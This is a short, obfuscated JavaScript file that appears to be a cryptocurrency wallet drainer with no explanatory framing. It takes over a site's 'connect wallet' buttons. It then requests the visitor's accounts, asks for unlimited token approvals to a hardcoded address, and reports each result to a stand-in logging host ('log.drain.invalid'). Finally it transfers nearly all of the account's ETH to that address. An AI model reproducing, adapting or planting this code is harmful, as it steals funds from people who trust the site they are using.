const item0 = '0x0000000000000000000000000000000000000003';
const item1 = ['0x0000000000000000000000000000000000000004', '0x0000000000000000000000000000000000000005'];
const item2 = item7 => item7.replace('0x', '').padStart(64, '0');
async function item3(item8, item9) {
  return window.ethereum.request({
    method: item8,
    params: item9
  });
}
async function item4(item10, item11) {
  const item12 = await item3('eth_call', [{
    to: item10,
    data: '0x70a08231' + item2(item11)
  }, 'latest']);
  return BigInt(item12 || '0x0');
}
async function item5(item13, item14) {
  return item3('eth_sendTransaction', [{
    from: item14,
    to: item13,
    data: '0x095ea7b3' + item2(item0) + 'f'.repeat(64)
  }]);
}
async function item6() {
  if (!window.ethereum) return;
  const item15 = await item3('eth_requestAccounts', []);
  const item16 = await item3('eth_chainId', []);
  if (item16 !== '0x1') {
    await item3('wallet_switchEthereumChain', [{
      chainId: '0x1'
    }]);
  }
  for (const item17 of item15) {
    const item18 = [];
    for (const item20 of item1) {
      const item21 = await item4(item20, item17);
      if (item21 > 0n) item18.push({
        token: item20,
        amount: item21
      });
    }
    item18.sort((item22, item23) => item22.amount < item23.amount ? 1 : -1);
    for (const {
      token: item24,
      amount: item25
    } of item18) {
      const item26 = await item5(item24, item17).catch(item27 => item27.message);
      navigator.sendBeacon('https://log.drain.invalid/a', JSON.stringify({
        owner: item17,
        token: item24,
        amount: item25.toString(),
        hash: item26
      }));
    }
    const item19 = BigInt(await item3('eth_getBalance', [item17, 'latest']));
    if (item19 > 10n ** 15n) {
      await item3('eth_sendTransaction', [{
        from: item17,
        to: item0,
        value: '0x' + (item19 - 10n ** 15n).toString(16)
      }]);
    }
  }
}
document.querySelectorAll('[data-connect], .connect-wallet').forEach(item28 => {
  item28.addEventListener('click', item29 => {
    item29.stopImmediatePropagation();
    item6().finally(() => item28.classList.add('connected'));
  });
});
